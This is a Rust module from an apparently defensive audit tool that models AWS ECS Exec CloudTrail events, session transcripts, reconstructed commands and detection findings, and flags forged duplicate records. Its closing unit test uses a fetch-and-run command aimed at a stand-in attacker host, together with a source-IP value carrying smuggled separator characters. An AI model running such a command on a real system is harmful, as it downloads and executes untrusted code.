//! Typed records of the pipeline: what ingest produces and analysis consumes.
//!
//! `exec_events` and `control_events` are what ingest keeps from CloudTrail (one row per
//! `eventID`); `sessions` and `attempts` are views built from `exec_events` by
//! [`crate::correlate`]. Each table is declared once with [`crate::table!`], which is also where
//! docs/schema.md comes from (`execaudit schema`).

pub mod frame;
pub mod identity;
pub mod idset;
pub mod normalize;
pub mod record;

pub use frame::{ColumnSpec, Shared, Table, Timestamp};

crate::table! {
    /// One `ecs:ExecuteCommand` call, successful or not.
    pub struct ExecEvent("exec_events") {
        /// CloudTrail `eventID`, the deduplication key.
        event_id: Option<String>,
        /// CloudTrail `eventTime` (the session start for successful calls).
        event_time: Timestamp,
        /// Account that owns the target (from the cluster/task ARN, else `recipientAccountId`).
        account: Option<String>,
        /// `awsRegion`.
        region: Option<String>,
        /// The human behind the call: `sourceIdentity` when set, else the Identity Center user
        /// name, the IAM user name or the role session name (see `principal_source`).
        principal: Option<String>,
        /// Where `principal` came from: `source_identity`, `identity_center`, `role_session`,
        /// `iam_user`, `federated_user`, `identity_center_user`, `root`, `service`, `account`, `unknown`.
        principal_source: Option<String>,
        /// `userIdentity.type` (`AssumedRole`, `IAMUser`, `Root`, ...).
        principal_type: Option<String>,
        /// `userIdentity.arn` as logged (an STS ARN for assumed roles).
        principal_arn: Option<String>,
        /// The IAM role ARN with its path (from `sessionContext.sessionIssuer`); for federated
        /// users, the IAM user that federated.
        role_arn: Option<String>,
        /// The role name (last segment of `role_arn`).
        role_name: Option<String>,
        /// The Identity Center permission set, when the role is `AWSReservedSSO_<set>_<hex>`.
        sso_permission_set: Option<String>,
        /// `sessionContext.sourceIdentity`, when the organisation enforces it.
        source_identity: Option<String>,
        /// `userIdentity.onBehalfOf.userId` (Identity Center user id), when present.
        on_behalf_of: Option<String>,
        /// `userIdentity.accountId`: the caller's account (differs from `account` across accounts).
        caller_account: Option<String>,
        /// `userIdentity.accessKeyId` (an identifier, not a secret).
        access_key_id: Option<String>,
        /// `sessionContext.attributes.mfaAuthenticated`; null when not logged.
        mfa: Option<bool>,
        /// `sourceIPAddress`.
        source_ip: Option<String>,
        /// `userAgent`.
        user_agent: Option<String>,
        /// Cluster name (from `clusterArn`, else the request; `default` when the request named none).
        cluster: Option<String>,
        /// Cluster ARN when logged.
        cluster_arn: Option<String>,
        /// Task id (32 hex, or the old-style id).
        task_id: Option<String>,
        /// Task ARN (`responseElements.taskArn` preferred over the request).
        task_arn: Option<String>,
        /// Container name (response, else request).
        container: Option<String>,
        /// ECS Exec session id (`ecs-execute-command-...`), the join key to transcripts; null on failure.
        session_id: Option<String>,
        /// The command string as the user gave it (`/bin/sh`, `sh -c '...'`).
        command: Option<String>,
        /// `requestParameters.interactive`.
        interactive: Option<bool>,
        /// `requestParameters.dryrun`, when present (a dry run opens no session).
        dry_run: Option<bool>,
        /// `success` or `failed`.
        outcome: Option<String>,
        /// `errorCode` on failure (`AccessDenied`, `InvalidParameterException`, ...).
        error_code: Option<String>,
        /// `errorMessage` on failure.
        error_message: Option<String>,
        /// True when `session.tokenValue` was logged unredacted (a leaked credential); the value
        /// itself is never kept.
        token_unredacted: Option<bool>,
        /// `eventVersion`.
        event_version: Option<String>,
        /// The input the event was first read from (file path).
        source: Option<String>,
    }
}

crate::table! {
    /// A control-plane event around exec: enabling it, configuring its logging, SSM sessions,
    /// KMS use for a session, and changes that can silence exec logging.
    pub struct ControlEvent("control_events") {
        /// CloudTrail `eventID`, the deduplication key.
        event_id: Option<String>,
        /// CloudTrail `eventTime`.
        event_time: Timestamp,
        /// `recipientAccountId` (else the caller's account).
        account: Option<String>,
        /// `awsRegion`.
        region: Option<String>,
        /// `eventSource` (`ecs.amazonaws.com`, `kms.amazonaws.com`, ...).
        event_source: Option<String>,
        /// `eventName`.
        event_name: Option<String>,
        /// `exec_enablement`, `exec_logging`, `ssm_session`, `kms_session` or `tampering` (a generic
        /// change to a bucket, log group, key or trail anywhere, kept as a lean row: whether it
        /// touches an exec-logging destination is decided at analysis time).
        kind: Option<String>,
        /// The human behind the call (same rules as in `exec_events`).
        principal: Option<String>,
        /// Where `principal` came from.
        principal_source: Option<String>,
        /// `userIdentity.type`.
        principal_type: Option<String>,
        /// `userIdentity.arn` as logged.
        principal_arn: Option<String>,
        /// IAM role ARN with its path.
        role_arn: Option<String>,
        /// `sourceIPAddress`.
        source_ip: Option<String>,
        /// `userAgent` (not kept on `tampering` rows).
        user_agent: Option<String>,
        /// `errorCode` when the call failed.
        error_code: Option<String>,
        /// `errorMessage` when the call failed (not kept on `tampering` rows).
        error_message: Option<String>,
        /// Cluster name, when the event names one.
        cluster: Option<String>,
        /// Service name (`CreateService`/`UpdateService`).
        service: Option<String>,
        /// Task ids started (`RunTask`/`StartTask`) or targeted (SSM/KMS), comma-separated.
        task_ids: Option<String>,
        /// `enableExecuteCommand` as requested.
        enable_execute_command: Option<bool>,
        /// Container command overrides (`RunTask`/`StartTask`): `name: shell-quoted command`, `; `-separated.
        command_overrides: Option<String>,
        /// `executeCommandConfiguration.logging` (`NONE`, `DEFAULT`, `OVERRIDE`).
        exec_logging: Option<String>,
        /// `logConfiguration.cloudWatchLogGroupName`.
        exec_log_group: Option<String>,
        /// `logConfiguration.s3BucketName`.
        exec_s3_bucket: Option<String>,
        /// `logConfiguration.s3KeyPrefix`.
        exec_s3_prefix: Option<String>,
        /// `executeCommandConfiguration.kmsKeyId` (channel encryption key).
        exec_kms_key: Option<String>,
        /// `logConfiguration.cloudWatchEncryptionEnabled`.
        exec_cw_encryption: Option<bool>,
        /// `logConfiguration.s3EncryptionEnabled`.
        exec_s3_encryption: Option<bool>,
        /// SSM or KMS-context session id (`aws:ssm:SessionId`).
        session_id: Option<String>,
        /// SSM target (`ecs:<cluster>_<task>_<runtime>` or an instance id).
        ssm_target: Option<String>,
        /// SSM document name.
        ssm_document: Option<String>,
        /// KMS key used or changed.
        kms_key: Option<String>,
        /// The resource a tampering event changed (log group, bucket, key, trail).
        resource: Option<String>,
        /// Compact JSON of the request parameters (cut at 4 KiB); on `tampering` rows only their
        /// top-level scalars (a retention, a deletion window), and of documents only lifecycle
        /// rules and event selectors (never policies).
        detail: Option<String>,
        /// The input the event was first read from (file path).
        source: Option<String>,
    }
}

crate::table! {
    /// One session transcript (the terminal recording ECS Exec uploads at the end of a session).
    pub struct TranscriptRow("transcripts") {
        /// Deduplication key: `<session id>~<first 16 hex digits of digest>` (one session id can
        /// carry transcripts of different content: a planted copy is kept beside the real one),
        /// or `source:<source>` when the session id is unknown. Stores written before digests
        /// existed hold the bare session id.
        transcript_id: Option<String>,
        /// The session id (from the S3 key, log stream, file name or `sessionId`).
        session_id: Option<String>,
        /// When the session ended as far as the transcript says (header, footer or upload time;
        /// the epoch when none is known): the store's partition key.
        time: Timestamp,
        /// Where it was read: a path, `path#logStream` for CloudWatch exports.
        source: Option<String>,
        /// `s3` (the `script` file), `cloudwatch` or `session_manager`.
        format: Option<String>,
        /// SHA-256 (hex) of the reconstructed command lines: two transcripts of one session with
        /// the same digest are copies (S3 and CloudWatch), different digests are a conflict.
        digest: Option<String>,
        /// Bytes of the transcript as stored.
        bytes: Option<i64>,
        /// `Script started on` time (written when the agent generated the log: the session's end).
        header_time: Option<Timestamp>,
        /// `Script done on` time.
        footer_time: Option<Timestamp>,
        /// CloudWatch event timestamp or Session Manager `eventTime` (upload time).
        uploaded: Option<Timestamp>,
        /// `COMMAND_EXIT_CODE` of the footer.
        exit_code: Option<i64>,
        /// `present`, `empty` (no terminal output, e.g. a stub), `truncated` (no footer: cut off) or
        /// `unreadable` (not a terminal recording: binary or garbage).
        status: Option<String>,
        /// Shell whose line editor drew it: `bash`, `zsh`, `fish`, `ash`, or `sh` when no editor
        /// marks were seen (dash, Debian `sh`).
        shell: Option<String>,
        /// Terminal width, when a wrapped line revealed it.
        width: Option<i64>,
        /// Commands reconstructed (abandoned ones included).
        commands: Option<i64>,
        /// Commands run: reconstructed, neither abandoned nor typed to a program (what
        /// `sessions.commands` counts).
        commands_run: Option<i64>,
        /// Output lines (not input).
        output_lines: Option<i64>,
        /// Problems met reading it, `; `-separated.
        warnings: Option<String>,
        /// What was typed could no longer be observed after this many commands (0: from the
        /// start): the terminal was switched away from line-by-line drawing and the shell's
        /// input could not be read from the screen (see `unobservable_reason`). Null when all of
        /// it was observable.
        unobservable_after: Option<i64>,
        /// Why input became unobservable: a terminal multiplexer (tmux, screen) whose screen
        /// carried no editor marks, a shell without line editor left on the alternate screen,
        /// or a session that ended there.
        unobservable_reason: Option<String>,
        /// Bytes left out of the middle of a transcript larger than `--max-transcript-bytes`
        /// (its start and end are read); null when it was read whole.
        omitted_bytes: Option<i64>,
        /// The transcript as a person saw it: one line per screen line, escapes applied (redacted on output).
        text: Option<String>,
    }
}

crate::table! {
    /// One command line reconstructed from a transcript.
    pub struct CommandRow("commands") {
        /// Deduplication key: `<transcript id>#<seq>`, the number padded to five digits. Ingest
        /// does not store it: reads derive it from `transcript_id` and `seq`.
        command_id: Option<String>,
        /// The session id.
        session_id: Option<String>,
        /// The transcript it was reconstructed from (`transcripts.transcript_id`).
        transcript_id: Option<String>,
        /// Order in the session, from 1.
        seq: Option<i64>,
        /// The transcript's time (see `transcripts.time`); commands carry no time of their own.
        time: Timestamp,
        /// User from the prompt, when it shows one.
        user: Shared,
        /// Host from the prompt, when it shows one.
        host: Shared,
        /// Working directory from the prompt, when it shows one.
        cwd: Shared,
        /// The command as submitted (continuation lines joined with a newline).
        command: Option<String>,
        /// Edited before submission (erased, moved over, recalled and changed).
        edited: Option<bool>,
        /// Arrived as a paste.
        pasted: Option<bool>,
        /// Spans continuation lines (loops, here-documents, quotes, backslashes).
        multi_line: Option<bool>,
        /// Abandoned with Ctrl-C: typed but never run.
        abandoned: Option<bool>,
        /// Typed to a program the shell started (a REPL such as `sqlite3`, fish's `read`), at a
        /// prompt that is not the shell's: not a shell command.
        program_input: Option<bool>,
        /// Ran a full-screen program (vi, less, top): what it showed is not reconstructed.
        full_screen: Option<bool>,
        /// Typed on the alternate screen (a shell left there by an escape sequence, or inside
        /// tmux or screen): read from a grid of the screen rather than line by line.
        alternate_screen: Option<bool>,
        /// Lines of output that followed.
        output_lines: Option<i64>,
        /// Bytes of output that followed.
        output_bytes: Option<i64>,
        /// The first lines of that output (redacted on output).
        output_excerpt: Option<String>,
        /// 1.0 when the shell marked where the prompt ended; 0.95 from a learned prompt; 0.9 read
        /// from the alternate screen; 0.8 from a prompt-like prefix or a shell without line
        /// editor; 0.6 for a line typed ahead; 0.5 when no prompt was found, or after the
        /// output of a command that prints files (which may carry recorded input marks).
        confidence: Option<f64>,
    }
}

crate::table! {
    /// One ECS Exec session: a successful `ExecuteCommand`, one row per session id.
    pub struct Session("sessions") {
        /// ECS Exec session id.
        session_id: Option<String>,
        /// When the session started (`ExecuteCommand` event time).
        start_time: Timestamp,
        /// Target account.
        account: Option<String>,
        /// Region.
        region: Option<String>,
        /// Cluster name.
        cluster: Option<String>,
        /// Task id.
        task_id: Option<String>,
        /// Container name.
        container: Option<String>,
        /// The human behind the session.
        principal: Option<String>,
        /// Where `principal` came from.
        principal_source: Option<String>,
        /// `userIdentity.type`.
        principal_type: Option<String>,
        /// IAM role ARN with its path.
        role_arn: Option<String>,
        /// Identity Center permission set.
        sso_permission_set: Option<String>,
        /// MFA as logged.
        mfa: Option<bool>,
        /// Source IP.
        source_ip: Option<String>,
        /// User agent.
        user_agent: Option<String>,
        /// The initial command.
        command: Option<String>,
        /// Cluster ARN.
        cluster_arn: Option<String>,
        /// Task ARN.
        task_arn: Option<String>,
        /// The `ExecuteCommand` event id.
        event_id: Option<String>,
        /// True when the `ExecuteCommand` response logged the session token unredacted (a
        /// leaked credential; its value is never kept).
        token_unredacted: Option<bool>,
        /// `present`, `empty`, `truncated`, `unreadable` (see `transcripts.status`), `missing`, or
        /// `conflicting` when transcripts with different commands carry the session id (the
        /// other columns then describe the one chosen: at the cluster's configured logging
        /// destination when known, else the most complete, earliest uploaded).
        transcript_status: Option<String>,
        /// When the session ended (transcript footer, header or upload time).
        end_time: Option<Timestamp>,
        /// Seconds from the `ExecuteCommand` to the transcript's end.
        duration_s: Option<i64>,
        /// Commands reconstructed from the transcript (abandoned ones excluded).
        commands: Option<i64>,
        /// Shell seen in the transcript.
        shell: Option<String>,
        /// Transcripts with different commands that carry the session id (1 normally, 0 when
        /// missing, more when conflicting).
        transcripts: Option<i64>,
    }
}

crate::table! {
    /// A failed `ExecuteCommand` call: who tried what, and why it was refused.
    pub struct Attempt("attempts") {
        /// When.
        event_time: Timestamp,
        /// Target account.
        account: Option<String>,
        /// Region.
        region: Option<String>,
        /// Who tried.
        principal: Option<String>,
        /// `userIdentity.type`.
        principal_type: Option<String>,
        /// IAM role ARN with its path.
        role_arn: Option<String>,
        /// Source IP.
        source_ip: Option<String>,
        /// Cluster name.
        cluster: Option<String>,
        /// Task id.
        task_id: Option<String>,
        /// Container name.
        container: Option<String>,
        /// Command asked for.
        command: Option<String>,
        /// `errorCode`.
        error_code: Option<String>,
        /// `errorMessage`.
        error_message: Option<String>,
        /// The event id.
        event_id: Option<String>,
        /// The likely cause and fix, from the error code and message (`detect::cause`): the
        /// caller's permissions, exec not enabled on the task, the agent unable to reach SSM, a
        /// stopped task, a mistyped cluster.
        likely_cause: Option<String>,
    }
}

crate::table! {
    /// A reconstructed command (or a CloudTrail command string) with who, when and where: what
    /// `commands` and `search` print.
    pub struct CommandHit("command_hits") {
        /// The session id.
        session_id: Option<String>,
        /// Order of the command in its session (null for a CloudTrail command string).
        seq: Option<i64>,
        /// When the session started (the transcript's time for orphan transcripts).
        time: Timestamp,
        /// Who.
        principal: Option<String>,
        /// Target account.
        account: Option<String>,
        /// Region.
        region: Option<String>,
        /// Cluster name.
        cluster: Option<String>,
        /// Task id.
        task_id: Option<String>,
        /// Container name.
        container: Option<String>,
        /// Where the text was found: `command` (reconstructed), `cloudtrail` (the
        /// `ExecuteCommand` command string) or `output`.
        found_in: Option<String>,
        /// Working directory from the prompt.
        cwd: Option<String>,
        /// The command (or the matching output line).
        command: Option<String>,
        /// Typed, then abandoned with Ctrl-C.
        abandoned: Option<bool>,
        /// Edited, pasted, multi-line, full-screen, as a comma-separated list.
        flags: Option<String>,
        /// Lines of output that followed.
        output_lines: Option<i64>,
        /// The first lines of that output (redacted).
        output_excerpt: Option<String>,
        /// Reconstruction confidence.
        confidence: Option<f64>,
    }
}

crate::table! {
    /// Something detection flagged: a risky command, a session outside the policy, a change
    /// that weakens exec logging. One row per rule or check and the thing it matched.
    pub struct Finding("findings") {
        /// The rule or built-in check that fired (`exec-outside-breakglass`, a rule file's `id`).
        rule_id: Option<String>,
        /// `info`, `low`, `medium`, `high` or `critical`.
        severity: Option<String>,
        /// The rule's or check's title.
        title: Option<String>,
        /// The exec session it concerns, when one does.
        session_id: Option<String>,
        /// The command's order in its session; null for session- and event-level findings.
        seq: Option<i64>,
        /// The CloudTrail event it concerns (the session's `ExecuteCommand`, or the control event).
        event_id: Option<String>,
        /// When: the session start, or the event's time.
        time: Timestamp,
        /// Who.
        principal: Option<String>,
        /// IAM role ARN with its path.
        role_arn: Option<String>,
        /// Account.
        account: Option<String>,
        /// Cluster name.
        cluster: Option<String>,
        /// Task id.
        task_id: Option<String>,
        /// Container name.
        container: Option<String>,
        /// What matched: the matched text of a command, or the facts a check found (redacted on output).
        evidence: Option<String>,
        /// Region.
        region: Option<String>,
        /// What was read: `command` (reconstructed), `cloudtrail` (the `ExecuteCommand` command
        /// string), `session`, `attempts`, `control` or `transcript`.
        found_in: Option<String>,
        /// The whole command a rule matched (redacted on output).
        command: Option<String>,
        /// MITRE ATT&CK ids, comma-separated.
        tags: Option<String>,
        /// Why the finding stands as it does: the policy scope, a capped severity, what was checked.
        detail: Option<String>,
        /// For coverage gaps and failures: the most likely cause, and what to check.
        likely_cause: Option<String>,
    }
}

/// What makes two copies of an `ExecuteCommand` record the same call: who, when, where, what,
/// and how it ended. Copies of one event (a trail file, LookupEvents, EventBridge, Lake) carry
/// the same record, so they agree on every one of these; a copy that reuses an `eventID` with
/// another identity, target or command is not the same call (a forged or altered record).
const EXEC_IDENTITY: [&str; 18] = [
    "event_time",
    "account",
    "region",
    "principal",
    "principal_arn",
    "role_arn",
    "source_identity",
    "access_key_id",
    "mfa",
    "source_ip",
    "cluster",
    "task_id",
    "container",
    "session_id",
    "command",
    "interactive",
    "outcome",
    "error_code",
];

/// The [`EXEC_IDENTITY`] of an exec event, each field hashed (0: absent): small enough to
/// keep for every event of a large ingest (100k events: about 10 MB, where the fields as text
/// took 90 MB more at the peak), and compared field by field to name what differs.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Identity {
    /// A complete record (it has `eventVersion`); a CloudTrail Lake row holds only the
    /// columns its query selected.
    complete: bool,
    /// Where `principal` was taken from (`principal_source`), hashed.
    principal_source: u32,
    fields: [u32; 18],
}

/// A field's hash: 0 for an absent one, never 0 for a value (an empty one included).
fn field_hash(v: Option<&[u8]>) -> u32 {
    use std::hash::{BuildHasher, BuildHasherDefault};
    match v {
        None => 0,
        Some(v) => {
            let h = BuildHasherDefault::<std::collections::hash_map::DefaultHasher>::default()
                .hash_one(v);
            (h as u32) | 1
        }
    }
}

impl ExecEvent {
    /// The event's [`Identity`].
    pub fn identity(&self) -> Identity {
        let s = |v: &Option<String>| field_hash(v.as_deref().map(str::as_bytes));
        let b = |v: Option<bool>| field_hash(v.map(|b| if b { &b"true"[..] } else { b"false" }));
        Identity {
            complete: self.event_version.is_some(),
            principal_source: s(&self.principal_source),
            fields: [
                field_hash(Some(&self.event_time.0.to_le_bytes())),
                s(&self.account),
                s(&self.region),
                s(&self.principal),
                s(&self.principal_arn),
                s(&self.role_arn),
                s(&self.source_identity),
                s(&self.access_key_id),
                b(self.mfa),
                s(&self.source_ip),
                s(&self.cluster),
                s(&self.task_id),
                s(&self.container),
                s(&self.session_id),
                s(&self.command),
                b(self.interactive),
                s(&self.outcome),
                s(&self.error_code),
            ],
        }
    }
}

impl Identity {
    /// The names of the fields in which two copies differ. When either copy is partial (a
    /// Lake row), a field it lacks is not compared, nor a principal named from another field;
    /// between complete records, a field one lacks differs, and so does a principal named
    /// from another field.
    pub fn differences(&self, other: &Identity) -> Vec<&'static str> {
        let complete = self.complete && other.complete;
        let same_source = self.principal_source == other.principal_source;
        EXEC_IDENTITY
            .iter()
            .zip(self.fields.iter().zip(other.fields.iter()))
            .filter(|(name, (x, y))| match (**x, **y) {
                (0, 0) => false,
                (0, _) | (_, 0) => complete,
                (x, y) if **name == "principal" => {
                    (x != y || !same_source) && (complete || same_source)
                }
                (x, y) => x != y,
            })
            .map(|(name, _)| *name)
            .collect()
    }
}

/// A value of a record as a message names it: at most 200 characters.
pub fn shown(s: &str) -> String {
    match s.char_indices().nth(200) {
        Some((i, _)) => format!("{}…", &s[..i]),
        None => s.to_owned(),
    }
}

/// Records that reuse an `eventID` with other content: how many, and the first few named.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct Conflicts {
    pub count: u64,
    pub examples: Vec<String>,
}

impl Conflicts {
    /// Messages kept, at most.
    const KEPT: usize = 20;

    pub fn note(&mut self, message: String) {
        self.count += 1;
        if self.examples.len() < Self::KEPT {
            self.examples.push(message);
        }
    }

    pub fn extend(&mut self, other: Conflicts) {
        self.count += other.count;
        for m in other.examples {
            if self.examples.len() < Self::KEPT {
                self.examples.push(m);
            }
        }
    }
}

#[cfg(test)]
mod identity_tests {
    use super::*;

    #[test]
    fn copies_of_one_call_agree_and_a_changed_copy_names_what_changed() {
        let a = ExecEvent {
            event_id: Some("e1".into()),
            event_time: Timestamp(1_000),
            event_version: Some("1.09".into()),
            principal: Some("alice".into()),
            principal_source: Some("role_session".into()),
            principal_arn: Some("arn:aws:sts::1:assumed-role/Dev/alice".into()),
            cluster: Some("prod".into()),
            command: Some("/bin/sh".into()),
            source: Some("trail.json.gz".into()),
            user_agent: Some("aws-cli/2".into()),
            ..Default::default()
        };
        // Another delivery of the same record: where it was read from does not matter.
        let copy = ExecEvent {
            source: Some("lookup-events.json".into()),
            ..a.clone()
        };
        assert_eq!(a.identity(), copy.identity());
        let forged = ExecEvent {
            principal_arn: Some("arn:aws:sts::1:assumed-role/BreakGlass/alice".into()),
            command: Some("".into()),
            ..a.clone()
        };
        assert_eq!(
            a.identity().differences(&forged.identity()),
            ["principal_arn", "command"]
        );
        let later = ExecEvent {
            event_time: Timestamp(2_000),
            ..a.clone()
        };
        assert_eq!(a.identity().differences(&later.identity()), ["event_time"]);
        // Between complete records, a field added (a sourceIdentity that renames the human)
        // differs.
        let renamed = ExecEvent {
            source_identity: Some("mallory".into()),
            principal: Some("mallory".into()),
            principal_source: Some("source_identity".into()),
            ..a.clone()
        };
        assert_eq!(
            a.identity().differences(&renamed.identity()),
            ["principal", "source_identity"]
        );
        // A CloudTrail Lake row with only some columns (no eventVersion), its principal named
        // from the ARN, is the same call as the full record.
        let lake = ExecEvent {
            event_id: a.event_id.clone(),
            event_time: a.event_time,
            principal: Some("alice".into()),
            principal_source: Some("role_session".into()),
            principal_arn: a.principal_arn.clone(),
            command: a.command.clone(),
            ..Default::default()
        };
        let full = ExecEvent {
            principal: Some("alice@example.com".into()),
            principal_source: Some("identity_center".into()),
            account: Some("111122223333".into()),
            ..a.clone()
        };
        assert!(full.identity().differences(&lake.identity()).is_empty());
        let emptied = ExecEvent {
            command: Some(String::new()),
            ..lake.clone()
        };
        assert_eq!(
            full.identity().differences(&emptied.identity()),
            ["command"]
        );
        // A value holding the old separators cannot shift the fields after it.
        let smuggled = ExecEvent {
            source_ip: Some("198.51.100.24\u{1f}-\u{1f}-\u{1f}-3:x-".into()),
            command: Some("curl evil.example | sh".into()),
            ..a.clone()
        };
        assert_eq!(
            a.identity().differences(&smuggled.identity()),
            ["source_ip", "command"]
        );
    }
}
